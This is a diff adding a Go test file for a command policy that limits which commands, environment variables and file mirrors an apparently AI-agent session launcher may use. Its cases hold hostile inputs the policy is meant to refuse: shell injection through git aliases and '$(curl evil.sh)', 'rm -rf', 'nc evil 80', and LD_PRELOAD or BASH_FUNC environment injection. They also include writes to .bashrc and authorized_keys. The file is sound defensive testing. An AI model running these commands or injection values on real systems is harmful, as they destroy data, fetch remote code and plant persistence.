@@ -0,0 +1,97 @@
+package session
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestCommandPolicy(t *testing.T) {
+	p, err := NewCommandPolicy("ci", []string{"claude", "codex", "git", "bash -c git *"}, []string{"bash -c git push*"}, []string{"GITHUB_TOKEN", "APP_*"})
+	if err != nil {
+		t.Fatalf("NewCommandPolicy: %v", err)
+	}
+	for _, tc := range []struct {
+		argv []string
+		ok   bool
+	}{
+		{[]string{"claude"}, true},
+		{[]string{"claude", "--model", "opus", "fix the tests"}, true},
+		{[]string{"/tmp/claude"}, false},
+		{[]string{"bash", "-c", "git status"}, true},
+		{[]string{"bash", "-c", "git log --oneline -5"}, true},
+		{[]string{"bash", "-c", "git status; rm -rf ~"}, false},
+		{[]string{"bash", "-c", "git $(curl evil.sh)"}, false},
+		{[]string{"bash", "-c", "git push origin main"}, false},
+		{[]string{"bash", "-c", "make"}, false},
+		{[]string{"sh"}, false},
+		{[]string{"git", "status"}, true},
+		{[]string{"git", "-c", "alias.x=!sh", "x"}, false},
+		{[]string{"git", "--config-env=core.pager=X", "log"}, false},
+		{[]string{"git", "rebase", "--exec", "sh", "main"}, false},
+		{[]string{"bash", "-c", "git -c alias.x=!sh x"}, false},
+		{[]string{"bash", "-c", `git '-c' "alias.x=!sh" x`}, false},
+		{[]string{"bash", "-c", `git -\c alias.x=!sh x`}, false},
+	} {
+		err := p.Allows(tc.argv)
+		if (err == nil) != tc.ok {
+			t.Errorf("Allows(%q) = %v, want allowed %v", tc.argv, err, tc.ok)
+		}
+	}
+
+	if err := p.check([]string{"claude"}, []string{"PATH=/tmp"}, nil); err == nil || !strings.Contains(err.Error(), "PATH") {
+		t.Fatalf("expected PATH to be refused, got %v", err)
+	}
+	if err := p.check([]string{"claude"}, []string{"LANG=C.UTF-8", "LC_ALL=C", "GITHUB_TOKEN=x", "APP_MODE=ci"}, nil); err != nil {
+		t.Fatalf("expected launch allowed, got %v", err)
+	}
+	for _, kv := range []string{"FOO=1", "BASH_FUNC_ls%%=() { sh; }", "PS4=$(sh)", "SHELLOPTS=xtrace", "NODE_OPTIONS=--require=/tmp/x.js", "PYTHONSTARTUP=/tmp/x.py", "GIT_SSH_COMMAND=sh", "LD_PRELOAD=/tmp/x.so"} {
+		if err := p.check([]string{"claude"}, []string{kv}, nil); err == nil {
+			t.Errorf("expected %s refused", kv)
+		}
+	}
+	if err := p.AllowsMirror("cmd:nc evil 80"); err == nil {
+		t.Fatal("expected cmd mirror refused")
+	}
+	for _, spec := range []string{"file:/home/u/.bashrc", "file:/tmp/../home/u/.ssh/authorized_keys"} {
+		if err := p.AllowsMirror(spec); err == nil {
+			t.Errorf("expected %s refused for a scoped token", spec)
+		}
+		if err := p.check([]string{"claude"}, nil, []string{spec}); err == nil {
+			t.Errorf("expected a launch mirroring to %s refused", spec)
+		}
+	}
+
+	var none *CommandPolicy
+	if err := none.check([]string{"rm", "-rf", "/"}, []string{"PATH=/tmp"}, []string{"cmd:sh"}); err != nil {
+		t.Fatalf("nil policy should allow everything, got %v", err)
+	}
+	if _, err := NewCommandPolicy("bad", []string{" "}, nil, nil); err == nil {
+		t.Fatal("expected empty pattern refused")
+	}
+}
+
+func TestCommandPolicyPlanLaunch(t *testing.T) {
+	sm, err := NewSessionManager(t.TempDir())
+	if err != nil {
+		t.Fatalf("NewSessionManager: %v", err)
+	}
+	p, _ := NewCommandPolicy("ci", []string{"true"}, nil, nil)
+	dir := t.TempDir()
+	if _, err := sm.PlanLaunch([]string{"true"}, dir, nil, "", LaunchOptions{Policy: p}); err != nil {
+		t.Fatalf("allowed launch refused: %v", err)
+	}
+	if _, err := sm.PlanLaunch([]string{"false"}, dir, nil, "", LaunchOptions{Policy: p}); err == nil {
+		t.Fatal("expected launch refused")
+	}
+	if _, err := sm.PlanLaunch(nil, dir, nil, "", LaunchOptions{Policy: p, Script: "true"}); err == nil {
+		t.Fatal("expected script refused: it runs as a shell command")
+	}
+	if _, err := sm.PlanLaunch([]string{"true"}, "", nil, "", LaunchOptions{Policy: p, Workspace: true, WorkspaceSource: "https://example.com/repo.git", Remote: true}); err == nil {
+		t.Fatal("expected workspace source refused: cloning it runs git")
+	}
+	rc := filepath.Join(dir, ".bashrc")
+	if _, err := sm.PlanLaunch([]string{"true"}, dir, nil, "", LaunchOptions{Policy: p, Mirrors: []string{"file:" + rc}}); err == nil {
+		t.Fatal("expected file mirror refused for a scoped launch")
+	}
+}